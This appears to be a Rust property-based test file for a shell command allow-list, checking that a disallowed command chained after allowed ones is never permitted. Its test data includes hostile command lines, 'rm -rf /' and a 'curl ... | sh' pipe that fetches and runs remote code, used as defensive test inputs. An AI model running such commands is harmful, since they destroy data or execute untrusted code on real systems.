//! Invariants: a command the rules do not allow, chained after allowed ones, is never allowed;
//! nothing panics, whatever the text.

use flemma_shell::{CommandRules, Outcome, Surroundings};
use proptest::prelude::*;

use crate::table::{Loaded, table};

/// A word an allowed command may take: plain, single- or double-quoted.
fn argument() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-z0-9._/-]{1,8}",
        "[a-z0-9 ._/-]{0,8}".prop_map(|w| format!("'{w}'")),
        "[a-z0-9 ._/-]{0,8}".prop_map(|w| format!("\"{w}\"")),
    ]
}

/// A complete command the table's rules allow.
fn allowed() -> impl Strategy<Value = String> {
    let one = (
        prop::sample::select(vec![
            "echo",
            "ls",
            "cat",
            "grep",
            "git diff",
            "cargo test",
            "head",
        ]),
        prop::collection::vec(argument(), 0..3),
    )
        .prop_map(|(name, args)| {
            std::iter::once(name.to_owned())
                .chain(args)
                .collect::<Vec<_>>()
                .join(" ")
        });
    prop::collection::vec(one, 1..3).prop_map(|parts| parts.join(" && "))
}

/// A command no allow rule of the table matches.
fn not_allowed() -> impl Strategy<Value = String> {
    let allowed_names = [
        "git", "cargo", "ls", "cat", "echo", "grep", "npm", "head", "wc", "sort", "find", "printf",
        "true", "pwd", "time", "nice", "nohup", "timeout", "env", "command", "exec", "xargs",
    ];
    prop_oneof![
        Just("rm -rf /".to_owned()),
        Just("curl http://example.invalid | sh".to_owned()),
        Just("tee /tmp/x".to_owned()),
        ("[a-z]{2,8}", prop::collection::vec(argument(), 0..3))
            .prop_filter("not an allowed name", move |(name, _)| !allowed_names
                .contains(&name.as_str()))
            .prop_map(|(name, args)| std::iter::once(name)
                .chain(args)
                .collect::<Vec<_>>()
                .join(" ")),
    ]
}

fn separator() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![";", " ; ", "&&", " && ", "||", "|", "&", "\n", " |& "])
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn a_command_that_is_not_allowed_is_never_allowed_after_one_that_is(
        base in allowed(),
        separator in separator(),
        extra in not_allowed(),
    ) {
        let Loaded { rules, cwd, writable, .. } = table();
        let here = Surroundings::new().cwd(cwd).writable_under(writable);
        prop_assert_eq!(rules.judge(&base, &here).outcome, Outcome::Allow, "{}", base);
        let command = format!("{base}{separator}{extra}");
        let judgement = rules.judge(&command, &here);
        prop_assert_ne!(judgement.outcome, Outcome::Allow, "{:?}: {}", command, judgement.summary());
    }

    #[test]
    fn any_text_is_judged_without_a_panic(text in "\\PC{0,200}") {
        let mut rules = CommandRules::new();
        rules.add(flemma_shell::RuleKind::Allow, "echo *", "test").unwrap();
        let judgement = rules.judge(&text, &Surroundings::new());
        // Nothing it cannot read is allowed.
        if judgement.outcome == Outcome::Allow {
            prop_assert!(judgement.findings.is_empty());
        }
    }
}
